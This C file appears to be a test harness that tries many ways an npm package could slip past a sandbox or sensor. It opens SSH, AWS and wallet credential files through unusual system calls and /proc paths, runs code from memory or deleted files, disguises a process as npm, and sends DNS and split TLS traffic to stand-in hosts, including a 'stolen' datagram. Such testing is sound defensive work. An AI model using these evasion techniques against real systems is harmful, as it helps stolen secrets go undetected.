// Ways by which a package may try to get past a sensor or out of a sandbox. Without arguments each one is tried in a process of its
// own, so that one that is killed does not end the rest; the result is printed as "name=value", negative values being error numbers.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <linux/openat2.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <pthread.h>
#include <sched.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#define HOME "/home/node"
#define CONNECT_SECONDS 5

static const char *current;

static void say(const char *part, long value) {
  printf(part[0] ? "%s-%s=%ld\n" : "%s%s=%ld\n", current, part, value);
  fflush(stdout);
}

// What a C library function or a system call returned, as the kernel would have put it.
static void result(const char *part, long value) { say(part, value == -1 ? -errno : value); }

// ---- other ways into the kernel

static void int80(void) {
  char *path = mmap((void *)0x20000000, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
  strcpy(path, HOME "/.npmrc");
  long answer;
  __asm__ volatile("int $0x80" : "=a"(answer) : "a"(5 /* open */), "b"(path), "c"(0), "d"(0) : "memory");
  say("", answer);
}

static void x32(void) { result("", syscall(0x40000000 | SYS_open, HOME "/.npmrc", O_RDONLY)); }

static void uring(void) {
  struct io_uring_params plain = {}, polling = { .flags = IORING_SETUP_SQPOLL, .sq_thread_idle = 1000 };
  result("setup", syscall(SYS_io_uring_setup, 4, &plain));
  result("sqpoll", syscall(SYS_io_uring_setup, 4, &polling));
  result("enter", syscall(SYS_io_uring_enter, 3, 1, 1, 0, NULL, 0));
  result("register", syscall(SYS_io_uring_register, 3, 0, NULL, 0));
}

// ---- other names for a file

static void openat2_(void) {
  int home = open(HOME, O_PATH | O_DIRECTORY), root = open("/home", O_PATH | O_DIRECTORY);
  struct open_how how = { .flags = O_RDONLY }, jail = { .flags = O_RDONLY, .resolve = RESOLVE_IN_ROOT };
  result("plain", syscall(SYS_openat2, home, ".npmrc", &how, sizeof how) >= 0);
  result("jail", syscall(SYS_openat2, root, "/node/.netrc", &jail, sizeof jail) >= 0);
  result("denied", syscall(SYS_openat2, home, "../../etc/shadow", &how, sizeof how));
}

static void proc(void) {
  char path[256];
  result("root", open("/proc/self/root" HOME "/.git-credentials", O_RDONLY) >= 0);
  result("thread-root", open("/proc/thread-self/root" HOME "/.kube/config", O_RDONLY) >= 0);
  result("cwd", open("/proc/self/cwd/../../../home/node/.aws/config", O_RDONLY) >= 0);
  int fd = open(HOME "/.gnupg/private-keys-v1.d/7C.key", O_PATH);
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  result("fd", open(path, O_RDONLY) >= 0);
  result("root-denied", open("/proc/self/root/etc/shadow", O_RDONLY));
  result("init-root", open("/proc/1/root/etc/shadow", O_RDONLY));
}

static void environ_(void) {
  char path[64];
  result("self", open("/proc/self/environ", O_RDONLY) >= 0);
  result("thread", open("/proc/thread-self/environ", O_RDONLY) >= 0);
  snprintf(path, sizeof path, "/proc/%d/task/%d/environ", getpid(), getpid());
  result("task", open(path, O_RDONLY) >= 0);
  snprintf(path, sizeof path, "/proc/%d/environ", getppid());
  result("parent", open(path, O_RDONLY) >= 0);
  result("init", open("/proc/1/environ", O_RDONLY));
}

static void links(void) {
  result("symlink", symlink(HOME "/.ssh/id_ed25519", "/tmp/innocent"));
  result("through", open("/tmp/innocent", O_RDONLY) >= 0);
  result("directory", symlink("../home/node/.ssh", "/tmp/folder"));
  result("inside", open("/tmp/folder/config", O_RDONLY) >= 0);
  result("hard", link(HOME "/.docker/config.json", HOME "/notes.txt"));
  result("hard-read", open(HOME "/notes.txt", O_RDONLY) >= 0);
  result("rename", rename(HOME "/.bash_history", HOME "/history.txt"));
  result("denied-target", symlink("/etc/shadow", "/tmp/shade"));
}

static void legacy(void) {
  result("creat", syscall(SYS_creat, HOME "/.profile", 0600) >= 0);
  result("chmod", fchmodat(AT_FDCWD, HOME "/.netrc", 0644, 0));
  result("truncate", truncate(HOME "/.config/gh/hosts.yml", 0));
  result("unlink", unlinkat(open(HOME "/.config/gcloud", O_PATH | O_DIRECTORY), "application_default_credentials.json", 0));
  char deep[3072] = HOME;
  while (strlen(deep) + 12 < sizeof deep) strcat(deep, "/deep-folder");
  result("deep", open(deep, O_RDONLY));
}

static void *read_in_thread(void *nothing) {
  result("", open(HOME "/.ethereum/keystore/UTC--wallet", O_RDONLY) >= 0);
  return nothing;
}

static void thread(void) {
  pthread_t reader;
  pthread_create(&reader, NULL, read_in_thread, NULL);
  pthread_join(reader, NULL);
}

// ---- other ways to run a program

static void copy(const char *from, int to) {
  int source = open(from, O_RDONLY);
  while (sendfile(to, source, NULL, 1 << 20) > 0) {}
  close(source);
}

static void memfd(void) {
  int fd = memfd_create("payload", 0);
  copy("/usr/bin/true", fd);
  char *argv[] = { "innocent", "memfd-argument", NULL }, *envp[] = { NULL };
  syscall(SYS_execveat, fd, "", argv, envp, AT_EMPTY_PATH);
  result("", -1);
}

static void deleted(void) {
  int fd = open("/tmp/.gone", O_CREAT | O_WRONLY, 0700);
  copy("/usr/bin/true", fd);
  close(fd);
  fd = open("/tmp/.gone", O_RDONLY);
  unlink("/tmp/.gone");
  char *argv[] = { "innocent", "deleted-argument", NULL }, *envp[] = { NULL };
  fexecve(fd, argv, envp);
  result("", -1);
}

static void symlinked(void) {
  symlink("/usr/bin/true", "/tmp/ls");
  execl("/tmp/ls", "ls", "symlink-argument", NULL);
  result("", -1);
}

static void script(void) {
  FILE *file = fopen("/tmp/run.sh", "w");
  fputs("#!/usr/bin/env -S sh -e\ntrue\n", file);
  fclose(file);
  chmod("/tmp/run.sh", 0755);
  chdir("/tmp");
  execl("./run.sh", "run.sh", "script-argument", NULL);
  result("", -1);
}

// Looks like npm, and like the sign between two phases.
static void disguise(void) {
  prctl(PR_SET_NAME, "npm install");
  execl("/usr/bin/wc", "npm", "-c", HOME "/.ssh/id_rsa", NULL);
  result("", -1);
}

static void fake_phase(void) {
  execl("/usr/bin/true", "true", "fangs-phase", "00000000000000000000000000000000", "import", NULL);
  result("", -1);
}

// Outlives npm: waits for the import phase, which index.js announces, and acts only then.
static void daemon_(void) {
  if (fork() || setsid() < 0 || fork()) return;
  // npm waits for the end of its script's output.
  for (int fd = 0; fd < 3; fd++) dup2(open("/dev/null", O_RDWR), fd);
  for (int tries = 0; tries < 3000 && access("/tmp/imported", F_OK); tries++) usleep(10000);
  open(HOME "/.aws/credentials", O_RDONLY);
  close(open("/tmp/daemon-done", O_CREAT | O_WRONLY, 0644));
}

// ---- calls that reach into other processes or the kernel

static int nothing(void *argument) { return argument != NULL; }

static void forbidden(void) {
  char buffer[128] = {}, stack[4096];
  struct { uint64_t flags, rest[10]; } clone_arguments = { CLONE_NEWUSER };
  result("ptrace", ptrace(PTRACE_TRACEME, 0, NULL, NULL));
  result("process_vm_readv", syscall(SYS_process_vm_readv, getppid(), NULL, 0, NULL, 0, 0));
  result("process_vm_writev", syscall(SYS_process_vm_writev, getppid(), NULL, 0, NULL, 0, 0));
  result("bpf", syscall(SYS_bpf, 0, buffer, sizeof buffer));
  result("perf_event_open", syscall(SYS_perf_event_open, buffer, 0, -1, -1, 0));
  result("mount", syscall(SYS_mount, "none", "/tmp", "tmpfs", 0, NULL));
  result("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
  result("unshare", unshare(CLONE_NEWUSER));
  result("setns", setns(open("/proc/self/ns/net", O_RDONLY), 0));
  result("userfaultfd", syscall(SYS_userfaultfd, 0));
  result("keyctl", syscall(SYS_keyctl, 0, -3, 0));
  result("chroot", chroot("/tmp"));
  result("open_by_handle_at", syscall(SYS_open_by_handle_at, AT_FDCWD, buffer, 0));
  result("pidfd_getfd", syscall(SYS_pidfd_getfd, 0, 0, 0));
  result("init_module", syscall(SYS_init_module, buffer, 0, ""));
  result("clone", clone(nothing, stack + sizeof stack, CLONE_NEWUSER | SIGCHLD, NULL));
  result("clone3", syscall(SYS_clone3, &clone_arguments, sizeof clone_arguments));
  result("vsock", socket(40, SOCK_STREAM, 0));
  result("packet", socket(AF_PACKET, SOCK_RAW, 0));
  result("raw", socket(AF_INET, SOCK_RAW, IPPROTO_ICMP));
}

// ---- other ways to the network

static struct sockaddr_in address(const char *ip, int port) {
  struct sockaddr_in made = { .sin_family = AF_INET, .sin_port = htons(port) };
  inet_pton(AF_INET, ip, &made.sin_addr);
  return made;
}

static struct sockaddr_in6 address6(const char *ip, int port) {
  struct sockaddr_in6 made = { .sin6_family = AF_INET6, .sin6_port = htons(port) };
  inet_pton(AF_INET6, ip, &made.sin6_addr);
  return made;
}

// A name server's question for an address; its length.
static int question(unsigned char *to, const char *name) {
  static const unsigned char head[] = { 0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0 }, tail[] = { 0, 0, 1, 0, 1 };
  int length = sizeof head;
  memcpy(to, head, sizeof head);
  while (*name) {
    size_t label = strcspn(name, ".");
    to[length++] = label;
    memcpy(to + length, name, label);
    length += label;
    name += label + (name[label] == '.');
  }
  memcpy(to + length, tail, sizeof tail);
  return length + sizeof tail;
}

static void datagrams(void) {
  unsigned char query[128];
  struct sockaddr_in dns = address("203.0.113.53", 53), other = address("203.0.113.54", 9999), joined = address("203.0.113.55", 53), many = address("203.0.113.56", 53);
  struct sockaddr_in6 six = address6("2001:db8::53", 53), mapped = address6("::ffff:203.0.113.57", 53);
  int four = socket(AF_INET, SOCK_DGRAM, 0), connected = socket(AF_INET, SOCK_DGRAM, 0), v6 = socket(AF_INET6, SOCK_DGRAM, 0);
  int length = question(query, "sendto.evasion.example");
  result("sendto", sendto(four, query, length, 0, (void *)&dns, sizeof dns) == length);
  result("other", sendto(four, "stolen", 6, 0, (void *)&other, sizeof other) == 6);
  length = question(query, "connected.evasion.example");
  connect(connected, (void *)&joined, sizeof joined);
  result("connected", send(connected, query, length, 0) == length);
  length = question(query, "sendmmsg.evasion.example");
  struct iovec vector = { query, length };
  struct mmsghdr message = { .msg_hdr = { .msg_name = &many, .msg_namelen = sizeof many, .msg_iov = &vector, .msg_iovlen = 1 } };
  result("sendmmsg", sendmmsg(four, &message, 1, 0));
  length = question(query, "six.evasion.example");
  result("six", sendto(v6, query, length, 0, (void *)&six, sizeof six) == length);
  length = question(query, "mapped.evasion.example");
  result("mapped", sendto(v6, query, length, 0, (void *)&mapped, sizeof mapped) == length);
}

static void local(void) {
  struct sockaddr_un docker = { .sun_family = AF_UNIX, .sun_path = "/var/run/docker.sock" }, hidden = { .sun_family = AF_UNIX };
  memcpy(hidden.sun_path, "\0hidden", 7);
  result("docker", connect(socket(AF_UNIX, SOCK_STREAM, 0), (void *)&docker, sizeof docker));
  result("abstract", connect(socket(AF_UNIX, SOCK_STREAM, 0), (void *)&hidden, sizeof(sa_family_t) + 7));
}

static int dial(const char *ip, int port) {
  struct sockaddr_in to = address(ip, port);
  struct timeval limit = { .tv_sec = CONNECT_SECONDS };
  int one = 1, fd = socket(AF_INET, SOCK_STREAM, 0);
  setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
  setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof limit);
  setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
  return connect(fd, (void *)&to, sizeof to) ? -1 : fd;
}

// Sends the bytes in pieces that lie some time apart, the first of the given size and the rest in `pieces` parts.
static void send_split(int fd, const unsigned char *bytes, int length, int first, int pieces) {
  int at = 0, size = first;
  while (at < length) {
    if (size > length - at) size = length - at;
    if (send(fd, bytes + at, size, MSG_NOSIGNAL) < 0) break;
    at += size;
    size = (length - first + pieces - 1) / pieces;
    usleep(30000);
  }
  result("", at == length);
  char answer[512];
  while (recv(fd, answer, sizeof answer, 0) > 0) {}
  close(fd);
}

static unsigned char *put16(unsigned char *at, int value) {
  *at++ = value >> 8;
  *at++ = value;
  return at;
}

// A ClientHello with a server name and some padding; its length with the record's header.
static int hello(unsigned char *to, const char *name) {
  int name_length = strlen(name), padding = 300, extensions = 4 + 5 + name_length + 4 + padding, body = 2 + 32 + 1 + 2 + 2 + 2 + 2 + extensions;
  unsigned char *at = to;
  *at++ = 0x16;
  at = put16(at, 0x0301);
  at = put16(at, body + 4);
  *at++ = 1; // ClientHello
  *at++ = 0;
  at = put16(at, body);
  at = put16(at, 0x0303);
  memset(at, 0x5a, 32);
  at += 32;
  *at++ = 0; // session id
  at = put16(at, 2);
  at = put16(at, 0x1301);
  at = put16(at, 0x0100); // compression
  at = put16(at, extensions);
  at = put16(at, 21); // padding first, so that the name comes late
  at = put16(at, padding);
  memset(at, 0, padding);
  at += padding;
  at = put16(at, 0); // server_name
  at = put16(at, 5 + name_length);
  at = put16(at, 3 + name_length);
  *at++ = 0;
  at = put16(at, name_length);
  memcpy(at, name, name_length);
  return at + name_length - to;
}

static void split_tls(void) {
  unsigned char bytes[1024];
  int length = hello(bytes, "halves.evasion.example");
  send_split(dial("203.0.113.71", 443), bytes, length, length / 2, 1);
}

static void late_tls(void) {
  unsigned char bytes[1024];
  int length = hello(bytes, "late.evasion.example");
  send_split(dial("203.0.113.72", 443), bytes, length, 1, 3);
}

static void crumbs_tls(void) {
  unsigned char bytes[1024];
  int length = hello(bytes, "crumbs.evasion.example");
  send_split(dial("203.0.113.73", 443), bytes, length, 20, 12);
}

// One handshake message in two TLS records.
static void records_tls(void) {
  unsigned char bytes[1024], two[1100];
  int length = hello(bytes, "records.evasion.example"), cut = 100;
  memcpy(two, bytes, 3);
  put16(two + 3, cut);
  memcpy(two + 5, bytes + 5, cut);
  memcpy(two + 5 + cut, bytes, 3);
  put16(two + 5 + cut + 3, length - 5 - cut);
  memcpy(two + 5 + cut + 5, bytes + 5 + cut, length - 5 - cut);
  send_split(dial("203.0.113.74", 443), two, length + 5, 5 + cut, 1);
}

static void split_http(void) {
  const char *head = "GET /split?q=1 HTTP/1.1\r\nHost: http.evasion.example\r\n\r\n";
  send_split(dial("203.0.113.75", 80), (const void *)head, strlen(head), 1, 3);
}

static void split_dns(void) {
  unsigned char bytes[130];
  int length = question(bytes + 2, "tcp.evasion.example");
  put16(bytes, length);
  send_split(dial("203.0.113.76", 53), bytes, length + 2, 2, 2);
}

// The hello travels on the first packet where the kernel has a cookie, after it otherwise; the connect is implied.
static void fast_open(void) {
  unsigned char bytes[1024];
  int length = hello(bytes, "fast.evasion.example"), fd = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in to = address("203.0.113.77", 443);
  result("", sendto(fd, bytes, length, MSG_FASTOPEN | MSG_NOSIGNAL, (void *)&to, sizeof to) == length);
  char answer[512];
  while (recv(fd, answer, sizeof answer, 0) > 0) {}
}

static void metadata6(void) {
  struct sockaddr_in6 to = address6("fd00:ec2::254", 80), mapped = address6("::ffff:169.254.170.2", 80);
  int fd = socket(AF_INET6, SOCK_STREAM, 0), second = socket(AF_INET6, SOCK_STREAM, 0);
  result("six", connect(fd, (void *)&to, sizeof to));
  result("mapped", connect(second, (void *)&mapped, sizeof mapped));
}

static const struct {
  const char *name;
  void (*run)(void);
} evasions[] = {
  { "int80", int80 }, { "x32", x32 }, { "uring", uring }, { "openat2", openat2_ }, { "proc", proc }, { "environ", environ_ },
  { "links", links }, { "legacy", legacy }, { "thread", thread }, { "memfd", memfd }, { "deleted", deleted }, { "symlinked", symlinked },
  { "script", script }, { "disguise", disguise }, { "fake-phase", fake_phase }, { "daemon", daemon_ }, { "forbidden", forbidden },
  { "datagrams", datagrams }, { "local", local }, { "split-tls", split_tls }, { "late-tls", late_tls }, { "crumbs-tls", crumbs_tls },
  { "records-tls", records_tls }, { "split-http", split_http }, { "split-dns", split_dns }, { "fast-open", fast_open }, { "metadata6", metadata6 },
};

int main(void) {
  for (size_t i = 0; i < sizeof evasions / sizeof *evasions; i++) {
    int status = 0;
    current = evasions[i].name;
    pid_t child = fork();
    if (!child) {
      evasions[i].run();
      exit(0);
    }
    waitpid(child, &status, 0);
    if (WIFSIGNALED(status)) say("signal", WTERMSIG(status));
    else if (WEXITSTATUS(status)) say("status", WEXITSTATUS(status));
  }
}
